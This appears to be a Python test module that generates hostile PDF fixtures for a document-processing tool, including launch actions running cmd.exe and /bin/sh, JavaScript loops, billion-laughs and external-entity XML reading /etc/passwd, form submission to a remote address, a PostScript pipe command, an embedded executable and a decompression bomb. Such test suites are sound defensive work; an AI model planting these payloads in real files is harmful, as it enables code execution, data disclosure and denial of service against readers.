"""What would run, fetch or hand over something, if anybody let it."""

from collections.abc import Mapping
from functools import partial

from tests.hostile import PICTURE, add
from tests.hostile.raw import deflated, form, image, page, stream

DRAWN = b"0 0 9 9 re f"
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        b'<!ENTITY %b "%b">' % (bytes([98 + n]), b"&%b;" % bytes([97 + n]) * 10) for n in range(9)
    )
    + b"]><x>&j;</x>"
)
EXTERNAL = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def started(action: bytes, **more: bytes) -> bytes:
    """Opening the document, the page, and a link over all of it."""
    return page(
        DRAWN,
        catalogue=b"/OpenAction 6 0 R/AA<</WC 6 0 R/WS 6 0 R>>",
        page=b"/AA<</O 6 0 R>>/Annots[7 0 R]",
        o6=action,
        o7=b"<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A 6 0 R/AA<</PV 6 0 R>>>>",
        **more,
    )


STARTED: Mapping[str, bytes] = {
    "script-endless": b"<</S/JavaScript/JS(while\\(true\\){})>>",
    "script-memory": b"<</S/JavaScript/JS(var a=[];while\\(1\\)a.push\\(new Array\\(9999999\\)\\))>>",
    "script-export": b"<</S/JavaScript/JS(this.exportDataObject\\({cName:'x',nLaunch:2}\\))>>",
    "launch-windows": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "launch-unix": b"<</S/Launch/F(/bin/sh)/NewWindow true>>",
    "go-elsewhere": b"<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\share\\\\x.pdf)/D[0/Fit]>>",
    "go-within": b"<</S/GoToE/T<</R/C/N(x.pdf)>>/D[0/Fit]>>",
    "address-of-a-file": b"<</S/URI/URI(file:///etc/passwd)>>",
    "address-script": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
    "submit": b"<</S/SubmitForm/F(http://192.0.2.1/)/Flags 4>>",
    "import": b"<</S/ImportData/F(/etc/passwd)>>",
    "hide-forever": b"<</S/Hide/T[7 0 R]/Next 6 0 R>>",
    "render": b"<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</F(http://192.0.2.1/x)>>>>>>>>",
    "thread": b"<</S/Thread/F(/etc/passwd)/D 0>>",
}
for _name, _action in STARTED.items():
    add(
        f"action-{_name}.pdf",
        partial(started, _action),
        PICTURE,
        quick=_name in ("script-endless", "launch-unix"),
    )

FILE = b"<</Type/Filespec/F(evil.exe)/EF<</F 9 0 R>>>>"
add(
    "file-within.pdf",
    lambda: page(
        DRAWN,
        catalogue=b"/Names<</EmbeddedFiles<</Names[(evil.exe)8 0 R]>>>>",
        o8=FILE,
        o9=stream(b"MZ" + bytes(900), b"/Type/EmbeddedFile"),
    ),
    PICTURE,
)
add(
    "file-bomb-within.pdf",
    lambda: page(
        DRAWN,
        catalogue=b"/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(a)8 0 R]>>>>",
        o8=FILE,
        o9=deflated(bytes(200 << 20), b"/Type/EmbeddedFile"),
    ),
    PICTURE,
)
add(
    "stream-elsewhere.pdf",
    lambda: page(stream(b"", b"/F(/etc/passwd)/FFilter/FlateDecode")),
    quick=True,
)
add(
    "image-elsewhere.pdf",
    lambda: page(
        b"/X Do",
        b"<</XObject<</X 6 0 R>>>>",
        o6=image(9, 9, b"", b"/F<</FS/URL/F(http://192.0.2.1/x.jpg)>>/ColorSpace/DeviceRGB"),
    ),
)
add(
    "page-elsewhere.pdf",
    lambda: page(
        b"/X Do",
        b"<</XObject<</X 6 0 R>>>>",
        o6=form(DRAWN, entries=b"/Ref<</F(/etc/passwd)/Page 0>>"),
    ),
)
add(
    "printers-program.pdf",
    lambda: page(
        b"/X Do",
        b"<</XObject<</X 6 0 R>>>>",
        o6=stream(b"(%pipe%id) (w) file", b"/Type/XObject/Subtype/PS"),
    ),
)
add(
    "font-elsewhere.pdf",
    lambda: page(
        b"BT /F 9 Tf (A) Tj ET",
        b"<</Font<</F<</Type/Font/Subtype/TrueType/BaseFont/../../../etc/passwd>>>>>>",
    ),
    PICTURE,
)


def xfa(body: bytes) -> bytes:
    return page(DRAWN, catalogue=b"/AcroForm<</Fields[]/XFA 6 0 R>>", o6=deflated(body))


add(
    "xfa-script.pdf",
    lambda: xfa(
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script>while(1);</script></template>"
        b"</xdp:xdp>"
    ),
    PICTURE,
)
add("xfa-laughs.pdf", lambda: xfa(LAUGHS), PICTURE, quick=True)
add("xfa-external.pdf", lambda: xfa(EXTERNAL), PICTURE)
add(
    "metadata-laughs.pdf",
    lambda: page(DRAWN, catalogue=b"/Metadata 6 0 R", o6=deflated(LAUGHS)),
    PICTURE,
)
add(
    "metadata-external.pdf",
    lambda: page(DRAWN, catalogue=b"/Metadata 6 0 R", o6=stream(EXTERNAL)),
    PICTURE,
)


def note(entries: bytes, count: int = 1, **more: bytes) -> bytes:
    return page(
        DRAWN, page=b"/Annots[%b]" % (b"6 0 R " * count), o6=b"<</Type/Annot%b>>" % entries, **more
    )


LOOK = b"/Subtype/Stamp/Rect[0 0 300 300]/AP<</N 7 0 R>>"
add("notes-many.pdf", lambda: note(LOOK, 100_000, o7=form(DRAWN)))
add("note-in-itself.pdf", lambda: note(LOOK, o7=form(b"/X Do", b"<</XObject<</X 7 0 R>>>>")))
add(
    "note-huge.pdf",
    lambda: note(LOOK.replace(b"0 0 300 300", b"-1e38 -1e38 1e38 1e38"), o7=form(DRAWN)),
)
add(
    "note-film.pdf",
    lambda: note(b"/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(http://192.0.2.1/x)>>"),
    PICTURE,
)
add(
    "note-flash.pdf",
    lambda: note(b"/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets 7 0 R>>", o7=b"<<>>"),
    PICTURE,
)
add(
    "note-solid.pdf",
    lambda: note(b"/Subtype/3D/Rect[0 0 9 9]/3DD 7 0 R", o7=stream(b"U3D\0" + bytes(99))),
    PICTURE,
)
add(
    "field-without-look.pdf",
    lambda: page(
        DRAWN,
        page=b"/Annots[6 0 R]",
        catalogue=b"/AcroForm<</Fields[6 0 R]/NeedAppearances true/DA(/Helv 1e38 Tf)>>",
        o6=b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(%b)/Rect[0 0 300 300]/DA(/Helv 0 Tf)/Ff 4096>>"
        % (b"x" * 500_000),
    ),
)
add(
    "field-script.pdf",
    lambda: page(
        DRAWN,
        page=b"/Annots[6 0 R]",
        catalogue=b"/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>",
        o6=b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 99 99]/AA<</C 7 0 R/F 7 0 R/K 7 0 R/V 7 0 R>>>>",
        o7=b"<</S/JavaScript/JS(while\\(1\\);)>>",
    ),
    PICTURE,
)
